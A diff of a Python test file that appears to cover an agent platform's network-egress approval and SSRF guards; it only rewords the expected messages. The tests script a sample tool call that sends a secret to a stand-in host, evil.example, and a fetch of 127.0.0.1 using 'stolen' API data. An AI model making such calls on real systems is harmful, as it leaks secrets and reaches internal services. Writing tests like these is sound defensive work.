@@ -80,7 +80,7 @@ def test_a_get_of_an_api_asks_and_names_the_host(workshop: Workshop, api: Api, l
     workshop.play(asking(call("crm.previewPage", url="https://evil.example/?secret=of-ours")))
     run = workshop.work()
     assert statuses(run) == ["awaiting_approval"]
-    assert "reaches evil.example" in workshop.card(run).why
+    assert "contacts evil.example" in workshop.card(run).why
     assert api.received == []
     allow(workshop, "evil.example")
     assert statuses(workshop.work()) == ["succeeded"]
@@ -114,13 +114,13 @@ def test_a_step_of_a_recipe_has_a_card_of_its_own(
     grant(workshop, "probe.fetching")
     workshop.play(asking(call("probe.fetching", **stolen(api))))
     run = workshop.work()
-    assert "reaches 127.0.0.1" in workshop.card(run).why
+    assert "contacts 127.0.0.1" in workshop.card(run).why
     assert api.received == []
 
 
 def test_a_person_cannot_try_it_by_hand_either(workshop: Workshop, api: Api, fetching: Source) -> None:
     workshop.organization.refresh_from_db()  # as every page does
-    with pytest.raises(Conflict, match=r"reaches 127\.0\.0\.1"):
+    with pytest.raises(Conflict, match=r"contacts 127\.0\.0\.1"):
         manual_calls.submit(workshop.operator, manual_calls.ManualCall(workshop.employee.pk, FETCH, stolen(api)))
 
 
